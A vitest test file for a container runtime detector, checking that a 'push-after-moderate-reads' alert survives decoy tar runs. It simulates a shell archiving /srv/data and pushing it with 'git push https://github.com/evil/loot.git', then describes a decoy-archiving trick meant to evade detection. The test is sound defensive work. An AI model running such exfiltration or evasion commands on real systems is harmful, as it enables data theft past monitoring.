/**
 * Archive staging is kept as a few marks per container (the last 4 archivers that read
 * reads.archiveMinFiles files). Archivers started after a push's settle time, while it waits for its
 * lateness, count for no pending push: they must not push out of the list the staging its rule rests on.
 */
import { describe, expect, it } from 'vitest';
import { brief, run, Scenario, TEST_DNS } from './builder.js';

const GITHUB_IP = TEST_DNS['github.com']![0]!;

describe('decoy archivers after a push do not evict the archive staging made before it', () => {
  for (const source of ['tetragon', 'falco'] as const) {
    it(`${source}: tar of 25 files, git push, then 4 decoy tar runs of 20 files each: still push-after-moderate-reads`, () => {
      const s = new Scenario({ source });
      const c = s.container({ pod: 'api' });
      const app = s.init(c, '/app/server', '--listen :8080');
      const bash = s.exec(c, '/bin/bash', '-i', { parent: app });
      const tar = s.exec(c, '/bin/tar', 'czf /tmp/out.tgz /srv/data', { parent: bash });
      s.readMany(tar, '/srv/data', 25, 4096, 5).exit(tar).wait(1_000);
      const git = s.exec(c, '/usr/bin/git', 'push https://github.com/evil/loot.git', { parent: bash });
      s.connect(git, GITHUB_IP, 443).send(git, GITHUB_IP, 443, 64 * 1024);
      // After the push's settle time, before its judgement: `for i in 1 2 3 4; do tar cf /dev/null /tmp/d$i; done`.
      s.wait(12_000);
      for (let i = 0; i < 4; i++) {
        const decoy = s.exec(c, '/bin/tar', `cf /dev/null /tmp/d${i}`, { parent: bash });
        s.readMany(decoy, `/tmp/d${i}`, 20, 0, 5).exit(decoy);
      }
      const { alerts } = run(s.events);
      expect(brief(alerts)).toEqual([
        { rule: 'push-after-moderate-reads', severity: 'medium', tool: 'git', destination: 'github.com' },
      ]);
      expect(alerts[0]!.evidence.find((e) => e.kind === 'archive')?.detail).toContain('read 25 files');
    });
  }
});
